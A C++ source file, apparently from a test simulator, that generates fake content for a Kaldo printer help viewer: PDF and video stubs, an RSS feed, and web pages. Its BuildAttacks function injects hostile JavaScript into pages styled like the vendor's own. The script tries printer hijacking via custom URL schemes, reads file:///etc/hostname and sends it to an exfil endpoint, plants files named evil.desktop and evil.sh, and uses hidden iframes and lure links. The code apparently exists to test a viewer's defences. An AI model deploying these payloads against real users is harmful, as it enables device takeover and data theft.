#include "simulator/SiteContent.h"

#include "simulator/Markup.h"

#include <cstdint>
#include <cstdio>
#include <vector>

namespace kaldo::simulator {

namespace {

std::string PdfLiteral(std::string_view text) {
    std::string literal;
    for (const char c : text) {
        const auto byte = static_cast<unsigned char>(c);
        if (c == '(' || c == ')' || c == '\\')
            literal += '\\';
        literal += (byte < 0x20 || byte > 0x7e) ? '?' : c;
    }
    return literal;
}

std::string Offset10(std::size_t offset) {
    char text[16];
    std::snprintf(text, sizeof text, "%010zu", offset);
    return text;
}

void AppendBox(std::string& out, std::string_view type, std::string_view payload) {
    const auto size = static_cast<std::uint32_t>(8 + payload.size());
    out += static_cast<char>(size >> 24);
    out += static_cast<char>((size >> 16) & 0xff);
    out += static_cast<char>((size >> 8) & 0xff);
    out += static_cast<char>(size & 0xff);
    out += type;
    out += payload;
}

} // namespace

std::string BuildPdf(std::string_view title) {
    const std::string stream = "BT /F1 20 Tf 72 760 Td (" + PdfLiteral(title) + ") Tj ET\n";
    const std::vector<std::string> objects{
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> >> >>",
        "<< /Length " + std::to_string(stream.size()) + " >>\nstream\n" + stream + "endstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    };

    std::string pdf = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
    std::vector<std::size_t> offsets;
    for (std::size_t i = 0; i < objects.size(); ++i) {
        offsets.push_back(pdf.size());
        pdf += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
    }
    const std::size_t xref = pdf.size();
    pdf += "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
    for (const auto offset : offsets)
        pdf += Offset10(offset) + " 00000 n \n";
    pdf += "trailer\n<< /Size " + std::to_string(objects.size() + 1) + " /Root 1 0 R >>\n";
    pdf += "startxref\n" + std::to_string(xref) + "\n%%EOF\n";
    return pdf;
}

std::string BuildVideo(std::string_view name) {
    using namespace std::string_view_literals;
    std::string payload;
    for (int i = 0; i < 4096; ++i)
        payload += static_cast<char>((i * 31 + 7) & 0xff);

    std::string video;
    if (name.ends_with(".webm")) {
        // EBML header with DocType "webm", then the bytes as one Void element.
        video = "\x1a\x45\xdf\xa3\x9f"
                "\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
                "\x42\x82\x84webm\x42\x87\x81\x02\x42\x85\x81\x02"sv;
        video += '\xec';
        video += static_cast<char>(0x40 | (payload.size() >> 8));
        video += static_cast<char>(payload.size() & 0xff);
        return video + payload;
    }
    AppendBox(video, "ftyp", "isom\0\0\2\0isomiso2avc1mp41"sv);
    AppendBox(video, "free", "kaldosim video " + std::string(name));
    AppendBox(video, "mdat", payload);
    return video;
}

std::string BuildUpdateFeed(std::string_view pubDate, std::string_view siteUrl) {
    const std::string date = EscapeMarkup(pubDate);
    const std::string link = EscapeMarkup(siteUrl);
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
           "<rss version=\"2.0\">\n"
           "  <channel>\n"
           "    <title>Kaldo Tendwell content updates</title>\n"
           "    <link>" +
           link +
           "</link>\n"
           "    <description>New and changed pages for your Kaldo printer</description>\n"
           "    <pubDate>" +
           date +
           "</pubDate>\n"
           "    <item>\n"
           "      <title>Updated troubleshooting pages</title>\n"
           "      <link>" +
           link +
           "</link>\n"
           "      <description>Clearer steps for paper jams and toner changes.</description>\n"
           "    </item>\n"
           "  </channel>\n"
           "</rss>\n";
}

std::string BuildAttacks(std::string_view siteUrl) {
    const std::string site(siteUrl);
    // Each attempt a moment after the one before, so that a cancelled one leaves the next
    // its chance.
    return "<meta http-equiv=\"refresh\" content=\"1; url=sp:" +
           std::string(kHostileHijackPrinter) +
           "\">\n"
           "<base href=\"file:///etc/\">\n"
           "<script>\n"
           "var site = '" +
           site +
           "';\n"
           "var attempts = [\n"
           "  function () { location.href = 'sp:" +
           std::string(kHostileHijackPrinter) +
           "'; },\n"
           "  function () { fetch('file:///etc/hostname').then(function (r) { return r.text(); })"
           ".then(function (t) { location.href = site + 'exfil?d=' + encodeURIComponent(t); })"
           ".catch(function () { location.href = site + 'exfil?d=unread'; }); },\n"
           "  function () { new Image().src = site + 'exfil?d=image'; },\n"
           "  function () { location.href = 'file:///etc/hostname#pdfs'; },\n"
           "  function () { location.href = 'file:///etc/hostname?htmldocs'; },\n"
           "  function () { location.href = 'doc:&FileName=evil.desktop'; },\n"
           "  function () { location.href = 'video:&FileName=evil.sh'; },\n"
           "  function () { location.href = 'util-rs:'; },\n"
           "  function () { location.href = 'ps:'; },\n"
           "  function () { window.open('sp:" +
           std::string(kHostileHijackPrinter) +
           "'); },\n"
           "  function () { document.getElementById('lure').click(); },\n"
           "];\n"
           "attempts.forEach(function (attempt, i) { setTimeout(attempt, 100 * i); });\n"
           "</script>\n";
}

std::string BuildWebPage(std::string_view name, bool marker, std::string_view hostileSite) {
    // Looks like the content's own pages (its style sheet and tabs), as the maker's refreshed
    // pages do.
    const std::string title = EscapeMarkup(name);
    const bool hostile = !hostileSite.empty();
    std::string page = marker ? "<!-- toolbox -->\n" : "";
    page += "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\">"
            "<title>" +
            title + "</title><link rel=\"stylesheet\" href=\"kaldo.css\">\n" +
            (hostile ? BuildAttacks(hostileSite) : std::string()) + "</head>\n" +
            (hostile ? "<body class=\"pane-body\" onload=\"location.href='util-rs:'\">\n"
                       "<iframe src=\"util-rs:\" hidden></iframe>"
                       "<a id=\"lure\" href=\"javascript:location.href='ps:'\"></a>\n"
                     : "<body class=\"pane-body\">\n") +
            "<nav class=\"tabs\"><a href=\"tab#1\" class=\"active\">Home</a>"
            "<a href=\"tab#2\">Guides and videos</a><a href=\"tab#3\">Troubleshooting</a>"
            "<a href=\"tab#4\">Index</a><a href=\"tab#5\">Search and support</a></nav>\n"
            "<div class=\"main\"><section class=\"content\">\n"
            "<h1>News from the Kaldo web site</h1>\n"
            "<p class=\"lead\">This page (" +
            title +
            ") comes from the Kaldo web site.</p>\n"
            "<ul class=\"list\">"
            "<li><div class=\"what\"><strong>Firmware 2.15 is available</strong>"
            "<span>Quieter printing and faster wake-up. Install it from the printer web page."
            "</span></div></li>"
            "<li><div class=\"what\"><strong>New video: replace the toner cartridge</strong>"
            "<span>Two minutes, step by step.</span></div>"
            "<div class=\"go\"><a class=\"button ghost\" href=\"tab#2\">Watch</a></div></li>"
            "</ul>\n</section></div>\n</body>\n</html>\n";
    return page;
}

std::string BuildRedirectPage(std::string_view address) {
    return "<HTML><HEAD><TITLE>" + std::string(address) +
           "</TITLE></HEAD>\n"
           "<BODY>This file has moved.</BODY></HTML>\n";
}

std::string BuildErrorPage(int status, std::string_view message) {
    return "<HTML><HEAD><META http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">"
           "</HEAD>\n<BODY><H1>" +
           std::to_string(status) + "</H1><P>" + EscapeMarkup(message) + "</P></BODY></HTML>\n";
}

std::string BuildSitePage(std::string_view title, std::string_view text) {
    const std::string heading = EscapeMarkup(title);
    return "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\">"
           "<title>" +
           heading +
           "</title></head>\n"
           "<body>\n<h1>" +
           heading + "</h1>\n<p>" + EscapeMarkup(text) +
           "</p>\n"
           "</body>\n</html>\n";
}

} // namespace kaldo::simulator
